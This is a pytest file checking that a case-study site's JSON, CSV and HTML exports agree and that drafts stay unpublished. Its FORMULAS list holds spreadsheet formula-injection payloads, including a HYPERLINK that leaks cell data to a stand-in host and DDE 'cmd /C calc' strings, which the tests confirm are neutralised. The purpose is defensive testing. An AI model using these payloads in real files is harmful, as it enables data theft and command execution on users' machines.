"""Open data: the JSON, the CSV and the pages say the same thing about every published case."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from site_builder.casefile.fields import case_fields
from site_builder.casefile.loader import require_cases
from site_builder.outputs.export import EXTRA_COLUMNS, LIST_SEPARATOR, csv_cell, csv_columns
from tests.support.project import ROOT
from tests.support.showcase import UNSEEN_DRAFT_ID, UNSEEN_ID


def _json(site: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((site / "data/cases.json").read_text(encoding="utf-8"))
    return data


def _csv(site: Path) -> tuple[list[str], list[dict[str, str]]]:
    raw = (site / "data/cases.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel opens it as UTF-8"
    reader = csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline=""))
    header, *rows = list(reader)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def _text(fragment: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", fragment)).strip()


def _published_cases(site: Path) -> dict[str, Any]:
    cases_dir = site.parent / "cases"
    return {c.id: c for c in require_cases([cases_dir], cases_root=cases_dir).published()}


def test_json_has_every_published_case_with_every_field(showcase_site: Path) -> None:
    data = _json(showcase_site)
    published = _published_cases(showcase_site)
    assert data["version"] == 1
    assert data["licence"]["id"] == "CC-BY-4.0" and data["licence"]["url"].startswith("https://")
    assert [c["id"] for c in data["cases"]] == sorted(published)
    assert UNSEEN_ID in published and data["count"] == len(published)
    keys = [k for k, _, _ in EXTRA_COLUMNS] + [s.key for s in case_fields()]
    assert [f["key"] for f in data["fields"]] == keys
    for record in data["cases"]:
        case = published[record["id"]]
        assert list(record) == keys
        assert {s.key: record[s.key] for s in case_fields()} == case.model_dump(mode="json")
        assert record["url"] == f"https://example.github.io/site_builder/cases/{case.id}/"
        assert record["district_slug"] == case.district_slug
        for key in ("cover_url", "social_card_url"):
            uri = record[key].removeprefix("https://example.github.io/site_builder/")
            assert (showcase_site / uri).is_file(), (key, uri)
    unseen = next(c for c in data["cases"] if c["id"] == UNSEEN_ID)
    assert unseen["district"] == "静安区" and unseen["former_district"] == "闸北区"  # canonical names


def test_csv_rows_match_the_json(showcase_site: Path) -> None:
    data = _json(showcase_site)
    published = _published_cases(showcase_site)
    header, rows = _csv(showcase_site)
    assert header == [label for _, label in csv_columns()]
    assert [r["编号"] for r in rows] == [c["id"] for c in data["cases"]]
    derived = {k for k, _, _ in EXTRA_COLUMNS}
    for record, row in zip(data["cases"], rows, strict=True):
        case = published[record["id"]]
        for key, label in csv_columns():
            value = record[key] if key in derived else getattr(case, key)
            assert row[label] == csv_cell(key, value), (record["id"], key)
        assert row["标题"] == record["title"] and row["摘要"] == record["summary"]
        assert row["领域"] == LIST_SEPARATOR.join(record["fields"])
        assert row["标签"].split(LIST_SEPARATOR) == record["tags"] or not record["tags"]
        assert row["年份"] == str(record["year"])
        assert row["来源"].count(LIST_SEPARATOR) == len(record["sources"]) - 1
    unseen = next(r for r in rows if r["编号"] == UNSEEN_ID)
    assert unseen["数据"] == "服务人次 12345 人次 截至年底；驿站 2.5 个"
    assert '逗号, 引号" 和分号；' in unseen["摘要"]
    assert unseen["背景"].startswith("商圈夜间配送多") and "\n\n第二段" in unseen["背景"]


def test_pages_say_what_the_data_says(showcase_site: Path) -> None:
    for record in _json(showcase_site)["cases"]:
        page = (showcase_site / f"cases/{record['id']}/index.html").read_text(encoding="utf-8")
        title = re.search(r'<h1 class="sb-case__title">(.*?)</h1>', page, re.S)
        assert title and _text(title.group(1)) == record["title"]
        lead = re.search(r'<p class="sb-lead">(.*?)</p>', page, re.S)
        assert lead and _text(lead.group(1)) == record["summary"]
        ref = re.search(r'<p class="sb-cite__ref"[^>]*>(.*?)</p>', page, re.S)
        assert ref and _text(ref.group(1)) == record["citation"]
        link = re.search(r'<a id="sb-cite-link" href="([^"]+)">', page)
        assert link and link.group(1) == record["url"]
        assert f'href="../../districts/{record["district_slug"]}/"' in page
        for name in record["fields"] + record["groups"]:
            assert f">{html.escape(name)}</a>" in page
        for source in record["sources"]:
            assert html.escape(source["title"]) in page


def test_drafts_never_reach_the_data(showcase_site: Path) -> None:
    for rel in ("data/cases.json", "data/cases.csv", "atom.xml", "feed.json"):
        text = (showcase_site / rel).read_text(encoding="utf-8-sig")
        for draft in ("draft-case", UNSEEN_DRAFT_ID, "未发布的夜间驿站草稿", "尚未发布的草稿案例"):
            assert draft not in text, (rel, draft)


def test_published_schema_is_the_committed_one(showcase_site: Path) -> None:
    assert (showcase_site / "data/case.schema.json").read_bytes() == (
        ROOT / "schema/case.schema.json"
    ).read_bytes()


def test_about_page_explains_every_column(showcase_site: Path) -> None:
    about = (showcase_site / "about/index.html").read_text(encoding="utf-8")
    section = about[about.index('id="data"') :]
    for key, label in csv_columns():
        assert f"<td>{html.escape(label)}</td>" in section and f"<code>{key}</code>" in section
    for href in ("../data/cases.csv", "../data/cases.json", "../data/case.schema.json", "../atom.xml"):
        assert f'href="{href}"' in section
        assert (showcase_site / "about" / href).resolve().is_file()


def test_every_page_footer_links_to_the_data(showcase_site: Path) -> None:
    for rel in ("index.html", "stats/index.html", f"cases/{UNSEEN_ID}/index.html", "about/index.html"):
        page = (showcase_site / rel).read_text(encoding="utf-8")
        footer = page[page.index('class="sb-open-data"') :]
        hrefs = re.findall(r'href="([^"]+)"', footer[: footer.index("</nav>")])
        targets = {(showcase_site / rel).parent.joinpath(h.split("#")[0]).resolve() for h in hrefs}
        assert (showcase_site / "data/cases.csv").resolve() in targets
        assert (showcase_site / "data/cases.json").resolve() in targets
        assert all(t.exists() for t in targets), rel


def test_a_new_field_reaches_json_csv_and_the_column_table(monkeypatch: pytest.MonkeyPatch) -> None:
    """Adding a field to the models is enough: export reads the registry, not a list of its own."""
    from pydantic import Field

    from site_builder.browse.model import SiteModel
    from site_builder.casefile import fields as registry
    from site_builder.casefile.models import Case
    from site_builder.casefile.vocab import load_vocabularies
    from site_builder.outputs import export
    from tests.support.project import FIXTURE_CASES

    class CaseWithContact(Case):
        contact: list[str] = Field(title="联系渠道", default_factory=list, description="对外联系渠道")

    vocab = load_vocabularies()
    monkeypatch.setattr(export, "case_fields", lambda: registry._specs(CaseWithContact, vocab))
    base = require_cases([FIXTURE_CASES], cases_root=FIXTURE_CASES).published()[0]
    case = CaseWithContact.model_validate(
        {**base.model_dump(), "contact": ["热线 12345", "公众号"]}, context={"vocab": vocab}
    ).bind(base.id, base.source_path or FIXTURE_CASES)
    files = export.build_data_files(
        SiteModel([case], vocab), site_name="测试站", site_url="https://x.test/", covers={}, social={}
    )
    record = json.loads(files["data/cases.json"])["cases"][0]
    assert record["contact"] == ["热线 12345", "公众号"]
    header, *rows = list(csv.reader(io.StringIO(files["data/cases.csv"].decode("utf-8-sig"))))
    assert rows[0][header.index("联系渠道")] == "热线 12345；公众号"
    assert "| 联系渠道 | `contact` | 对外联系渠道 |" in export.columns_table()


def _hostile_csv(**fields: Any) -> dict[str, str]:
    from site_builder.browse.model import SiteModel
    from site_builder.casefile.vocab import load_vocabularies
    from site_builder.outputs import export
    from tests.support.project import FIXTURE_CASES

    vocab = load_vocabularies()
    base = require_cases([FIXTURE_CASES], cases_root=FIXTURE_CASES).published()[0]
    case = type(base).model_validate({**base.model_dump(), **fields}, context={"vocab": vocab})
    case.bind(base.id, base.source_path or FIXTURE_CASES)
    files = export.build_data_files(
        SiteModel([case], vocab), site_name="测试站", site_url="https://x.test/", covers={}, social={}
    )
    header, row = list(csv.reader(io.StringIO(files["data/cases.csv"].decode("utf-8-sig"), newline="")))
    json_case = json.loads(files["data/cases.json"])["cases"][0]
    return {**dict(zip(header, row, strict=True)), "_json_practice": json_case["practice"]}


FORMULAS = [
    '=HYPERLINK("h"&"ttp://127.0.0.1:9/?leak="&A2,"详情")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1 前面有空格",
    "\u3000＝1+1 全角等号",
    "＋1 全角加号",
    "＠SUM(1) 全角",
    "－1 全角减号",
    "\u2002\u00a0=1+1 其他空格",
    "\n=1+1 换行",
]


def test_csv_cells_never_start_a_formula() -> None:
    row = _hostile_csv(organizations=FORMULAS, tags=["-标签"], practice="- 第一项\n- 第二项\n")
    for cell in [*row["参与单位"].split(LIST_SEPARATOR)[:1], row["标签"], row["主要做法"]]:
        head = cell.lstrip(" \u3000")
        assert head[:1] not in set("=+-@\t\r＝＋－＠"), cell
    assert row["参与单位"].startswith("'=HYPERLINK(")
    assert row["标签"] == "'-标签"


@pytest.mark.parametrize("formula", FORMULAS)
def test_each_formula_shape_is_neutralised_as_a_whole_cell(formula: str) -> None:
    from site_builder.outputs.export import neutralised

    assert neutralised(formula) == "'" + formula
    assert neutralised("党员骑手 = 120") == "党员骑手 = 120"


def test_csv_has_plain_text_and_the_json_keeps_the_markdown() -> None:
    practice = "- **建立**联席会\n- 设立[驿站]\n\n1. 第一\n2. 第二\n\n第二段 &amp; `代码`\n"
    row = _hostile_csv(practice=practice)
    assert row["主要做法"] == "• 建立联席会\n• 设立[驿站]\n\n1. 第一\n2. 第二\n\n第二段 & 代码"
    assert row["_json_practice"] == practice


def test_kept_records_give_the_same_files_and_an_edit_makes_one_record(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from site_builder.browse.model import SiteModel
    from site_builder.cache import Store
    from site_builder.casefile.vocab import load_vocabularies
    from site_builder.outputs import export
    from tests.support.synthetic import synthetic_cases

    vocab = load_vocabularies()
    cases = synthetic_cases(12, seed=9)
    rows = Store(tmp_path, "data-rows")
    options: dict[str, Any] = {
        "site_name": "测试站",
        "site_url": "https://x.test/",
        "covers": {},
        "social": {},
    }
    made: list[str] = []
    record = export.case_record

    def counted(case: Any, **kw: Any) -> dict[str, Any]:
        made.append(case.id)
        return record(case, **kw)

    monkeypatch.setattr(export, "case_record", counted)
    summary = cases[0].model_copy(update={"summary": cases[0].summary + "新增夜间服务。"})
    for edited, remade in ((cases, len(cases)), ([summary, *cases[1:]], 1), ([summary, *cases[1:-1]], None)):
        site = SiteModel(edited, vocab)
        made.clear()
        kept = export.build_data_files(site, rows=rows, **options)
        if remade is not None:
            assert len(made) == remade, "only the edited case's record is made again"
        assert kept == export.build_data_files(site, **options), "the same bytes as records made afresh"
